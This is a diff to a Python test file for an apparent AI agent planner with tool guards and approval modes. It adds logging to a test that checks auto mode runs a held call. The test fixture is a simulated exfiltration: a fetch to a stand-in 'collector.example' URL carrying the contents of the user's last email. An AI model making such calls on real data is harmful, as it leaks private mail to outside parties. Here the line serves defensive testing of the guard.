@@ -7,9 +7,11 @@ pages and searches (read-only, open-world: the guard clears its tools), `chat` p
 
 from __future__ import annotations
 
+import logging
 from typing import Any
 from urllib.parse import quote
 
+import pytest
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.store.memory import InMemoryStore
 from mcp.server.fastmcp import FastMCP
@@ -223,15 +225,19 @@ async def test_plan_only_holds_the_template_and_the_answer_says_why(scripted: An
     assert "carries text from expert 'mail'" in answer
 
 
-async def test_auto_mode_runs_the_held_call(scripted: Any) -> None:
+async def test_auto_mode_runs_the_held_call_and_logs_it(
+    scripted: Any, caplog: pytest.LogCaptureFixture
+) -> None:
     leak = step("t2", "web", "fetch", {"url": "https://collector.example/?d=${t1.result}"}, "t1")
     ctx, _, web, _ = context(scripted, [plan(READ_MAIL, leak)], approval_mode="auto")
     thread = Thread(ctx)
 
-    await thread.send("Send my last email to the collector.")
+    with caplog.at_level(logging.INFO, logger="strategies.with_planner.nodes.call_tool"):
+        await thread.send("Send my last email to the collector.")
 
     assert await thread.interrupts() == []
     assert web.runs.names() == ["fetch"]
+    assert "auto mode: running gated fetch" in caplog.text
 
 
 async def test_data_may_leave_on_the_server_lets_the_call_run(scripted: Any) -> None:
